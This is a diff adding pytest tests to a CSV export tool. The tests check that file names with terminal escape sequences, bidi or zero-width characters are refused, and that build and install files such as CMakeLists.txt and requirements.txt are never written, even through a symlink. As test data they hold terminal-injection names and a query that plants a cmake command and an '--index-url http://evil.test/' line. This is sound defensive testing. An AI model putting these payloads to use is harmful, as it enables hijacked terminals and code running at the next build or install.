@@ -377,3 +377,71 @@ def test_the_terminal_prompt_shows_where_an_export_writes_after_a_long_query(
     assert '"path": "reports/secret-list.csv"' in asked
     assert padded in asked  # nothing of what is allowed is cut
     assert asked.index('"path"') < asked.index('"query"')  # short fields first, in view
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "a\nb.csv",  # forges a second line in `ls`, in the result and the transcript
+        "x\r.csv",
+        "\x1b]52;c;SGVsbG8=\x07x.csv",  # OSC 52: a terminal listing it sets the clipboard
+        "\x1b[2Jx.csv",
+        "invoice\u202evsc.txt",  # right-to-left override: shown as "invoicetxt.csv"
+        "x\u200b.csv",  # zero-width space: two files that look alike
+        "exports/\x9bx.csv",  # 8-bit CSI
+        "sub\u2066dir/x.csv",  # in a folder part, too
+    ],
+)
+def test_a_name_with_controls_or_invisible_characters_is_refused(
+    demo_path: Path, tmp_path: Path, name: str
+) -> None:
+    ctx = make_ctx(demo_path, tmp_path)
+    result = err(ctx, "exportCsv", query=QUERY, path=name)
+    assert "plain, visible names" in result["error"], result
+    assert "\x1b" not in result["error"] and "\n" not in result["error"], result
+    exports = ctx.export_dir / "exports"
+    assert not exports.exists() or list(exports.iterdir()) == []
+
+
+def test_plain_names_with_spaces_and_other_scripts_are_still_written(
+    demo_path: Path, tmp_path: Path
+) -> None:
+    ctx = make_ctx(demo_path, tmp_path)
+    for name in ("pending orders.csv", "commandes-été.csv", "注文.csv", "a\\b.csv"):
+        ok(ctx, "exportCsv", query=QUERY, path=name)
+    assert sorted(p.name for p in (ctx.export_dir / "exports").iterdir()) == sorted(
+        ("pending orders.csv", "commandes-été.csv", "注文.csv", "a\\b.csv")
+    )
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        "CMakeLists.txt",  # cmake runs execute_process(COMMAND ...) at the next build
+        "src/cmakelists.TXT",
+        "requirements.txt",  # pip follows --index-url / -e git+URL at the next install
+        "requirements-dev.txt",
+        "dev-requirements.txt",
+        "constraints.txt",
+    ],
+)
+def test_files_that_build_or_install_tools_run_are_never_written(
+    demo_path: Path, tmp_path: Path, name: str
+) -> None:
+    ctx = make_ctx(demo_path, tmp_path)
+    (ctx.export_dir / "src").mkdir()
+    query = "SELECT 'execute_process(COMMAND touch pwned)' AS \"--index-url http://evil.test/\""
+    result = err(ctx, "exportCsv", query=query, path=name)
+    assert "build or install tools" in result["error"], result
+    assert not (ctx.export_dir / name).exists()
+    assert not (ctx.export_dir / "exports" / name).exists()
+
+
+def test_a_link_cannot_give_a_build_file_an_innocent_name(demo_path: Path, tmp_path: Path) -> None:
+    ctx = make_ctx(demo_path, tmp_path)
+    (ctx.export_dir / "src").mkdir()
+    (ctx.export_dir / "src" / "notes.txt").symlink_to("CMakeLists.txt")
+    assert "build or install tools" in export(ctx, "src/notes.txt", overwrite=False)["error"]
+    assert not (ctx.export_dir / "src" / "CMakeLists.txt").exists()
+    for fine in ("notes.txt", "requirement_changes.csv", "constraints_report.csv"):
+        ok(ctx, "exportCsv", query=QUERY, path=fine)
